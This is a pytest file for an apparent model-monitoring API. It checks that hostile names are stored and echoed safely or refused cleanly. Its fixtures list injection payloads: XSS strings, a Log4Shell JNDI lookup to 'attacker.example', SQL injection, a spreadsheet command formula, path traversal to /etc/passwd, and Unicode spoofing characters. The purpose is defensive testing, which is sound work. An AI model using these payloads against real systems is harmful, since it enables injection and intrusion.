"""Names that attack whoever shows, stores, logs or routes them: kept as they are, or refused."""

import json
from urllib.parse import quote

import pytest

from roclab.monitor.settings import Settings
from roclab.monitor.store.database import damage_of
from tests.unit.monitor.api.client import Client

KEPT = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "javascript:alert(1)",
    "{{7*7}}",
    "${jndi:ldap://attacker.example/a}",
    "%s%s%n{0}{name}",
    "'; DROP TABLE event; --",
    '" OR ""="',
    "1; ATTACH DATABASE 'x' AS y",
    "%00",
    "%2e%2e%2f",
    "a%2Fb",
    "C:evil",
    "CON",
    "a?b#c&d=e",
    "a;b",
    "=cmd|' /C calc'!A0",
    "naïve café",
    "ελληνικά 日本語",
    "👩‍🔬",
    "a\u200cb",
    "null",
    "-1",
    "x" * 200,
)
REFUSED = (
    "",
    " ",
    " a",
    "a\n",
    "a\nb",
    "a\rb",
    "a\x00b",
    "\x1b[31mred",
    "a\tb",
    "a\x7f",
    "a\x85b",
    "\x9b2J",
    "a\u2028b",
    "a\u2029b",
    "\u202egpj.exe",
    "a\u2066b",
    "a\u200bb",
    "\ufeffa",
    "a\u061cb",
    "x" * 201,
)
PATHS = ("/", "a/b", "../../etc/passwd", "..", ".", "..\\..\\windows", "a\\b", "//host/share")
SURROGATE = '"\\ud800"'


@pytest.fixture(scope="module")
def client(tmp_path_factory):
    with Client(Settings(data=tmp_path_factory.mktemp("data"))) as client:
        yield client


@pytest.fixture(autouse=True)
def nothing_escapes(client, caplog):
    """After each test the service works, its database is whole, and no log has a raw name."""
    yield
    assert client.get("/readyz").status_code == 200
    assert damage_of(client.service.store.path.parent) == []
    for record in caplog.records:
        if record.name.startswith(("roclab", "uvicorn")):
            assert "\n" not in record.getMessage()


def forget(client, model):
    client.delete(f"/v1/models/{quote(model, safe='')}")


@pytest.mark.parametrize("name", KEPT, ids=ascii)
class TestKept:
    def test_models(self, client, name):
        name = name.replace("/", "|")
        row = {"model": name, "id": "a", "score": 0.5, "label": 1}
        assert client.send("/v1/predictions", row)["accepted"] == 1
        try:
            assert name in [one["model"] for one in client.get("/v1/models").json()["models"]]
            path = f"/v1/models/{quote(name, safe='')}"
            assert client.get(path).json()["model"] == name
            assert client.get(f"{path}/history").json()["model"] == name
            note = {"kind": "note", "reason": name}
            assert client.post(f"{path}/acts", json=note).json()["reason"] == name
            metrics = client.get("/metrics").text
            escaped = name.replace("\\", "\\\\").replace('"', '\\"')
            assert f'roclab_window_positives{{model="{escaped}"}} 1.0' in metrics
            assert client.delete(f"{path}/ids", params={"id": "a"}).status_code == 200
        finally:
            forget(client, name)
        assert client.get(path).status_code == 404

    def test_segments_values_versions_and_ids(self, client, name):
        row = {
            "model": "names",
            "id": name,
            "score": 0.5,
            "version": name,
            "segments": {name: name},
        }
        assert client.send("/v1/predictions", row)["accepted"] == 1
        mark = {"model": "names", "version": name, "note": name}
        assert client.send("/v1/deployments", mark)["accepted"] == 1
        try:
            found = client.get("/v1/models/names").json()
            (stream,) = found["streams"]
            assert (stream["segment"], stream["value"]) == (name, name)
            assert found["deployments"][0]["version"] == found["deployments"][0]["note"] == name
            asked = {"segment": name, "value": name}
            history = client.get("/v1/models/names/history", params=asked).json()
            assert (history["segment"], history["value"]) == (name, name)
            number = client.service.installation.models["names"].record.number
            (stored,) = [row for part in client.service.store.events(number) for row in part]
            assert (stored[0], stored[4]) == (name, name)
            answer = client.delete("/v1/models/names/ids", params={"id": name})
            assert answer.json() == {"forgotten": name}
        finally:
            forget(client, "names")


@pytest.mark.parametrize("name", REFUSED, ids=ascii)
class TestRefused:
    def test_everywhere(self, client, name):
        good = {"model": "names", "id": "a", "score": 0.5}
        for changed in (
            {"id": name},
            {"model": name},
            {"version": name},
            {"segments": {name: "x"}},
            {"segments": {"x": name}},
        ):
            found = client.send("/v1/predictions", good | changed, 422)
            assert found["rejected"] == 1
            assert found["error"].isascii()
            assert found["error"].isprintable()
        assert client.send("/v1/labels", {"model": "names", "id": name, "label": 1}, 422)
        assert client.send("/v1/deployments", {"model": "names", "version": name}, 422)
        assert "names" not in client.service.installation.models

    def test_in_addresses(self, client, name):
        rows = {"id": "a", "score": 0.5}
        answer = client.post("/v1/predictions", params={"model": name}, json=rows)
        assert answer.status_code == 422
        path = f"/v1/models/{quote(name, safe='')}"
        for method in ("GET", "DELETE"):
            answer = client.ask(method, path)
            assert answer.status_code == 404
            assert answer.json()["error"].isprintable()


@pytest.mark.parametrize("name", PATHS, ids=ascii)
def test_models_are_no_paths(client, name):
    found = client.send("/v1/predictions", {"model": name, "id": "a", "score": 0.5}, 422)
    assert "is a path; names of models have no slashes" in found["error"]
    row = {"model": "paths", "id": name, "score": 0.5, "segments": {name: name}}
    assert client.send("/v1/predictions", row)["accepted"] == 1  # others may be paths
    assert client.send("/v1/predictions", {**row, "model": name}, 422)
    forget(client, "paths")


@pytest.mark.parametrize(
    "row",
    [
        f'{{"model": "m", "id": {SURROGATE}, "score": 1}}',
        f'{{"model": {SURROGATE}, "id": "a", "score": 1}}',
        f'{{"model": "m", "id": "a", "score": 1, "version": {SURROGATE}}}',
        f'{{"model": "m", "id": "a", "score": 1, "segments": {{{SURROGATE}: "x"}}}}',
        f'{{"model": "m", "id": "a", "score": 1, "segments": {{"x": {SURROGATE}}}}}',
        f'{{"model": "m", "id": "a", "score": 1, {SURROGATE}: 1}}',
        '{"model": "m", "id": "\\udc00\\ud800", "score": 1}',
        '{"model": "m", "id": "\\ud800\\u0041", "score": 1}',
    ],
)
def test_half_characters_are_refused(client, row):
    answer = client.post("/v1/predictions", content=row)
    assert answer.status_code == 422
    assert answer.json()["error"].isprintable()


def test_a_name_is_checked_as_what_it_is(client):
    """A text that was accepted as a segment is no model for that."""
    row = {"model": "names", "id": "a", "score": 0.5, "segments": {"x": "a/b"}}
    client.send("/v1/predictions", row)
    assert client.send("/v1/predictions", {**row, "model": "a/b"}, 422)["rejected"] == 1
    forget(client, "names")


def test_unknown_fields_are_not_repeated_raw(client):
    body = json.dumps({"id": "a", "score": 1, "\x1b[2J\n<b>" + "k" * 1000: 1})
    answer = client.post("/v1/predictions?model=m", content=body)
    reason = answer.json()["rows"][0]["reason"]
    assert reason.isprintable()
    assert len(reason) <= 300
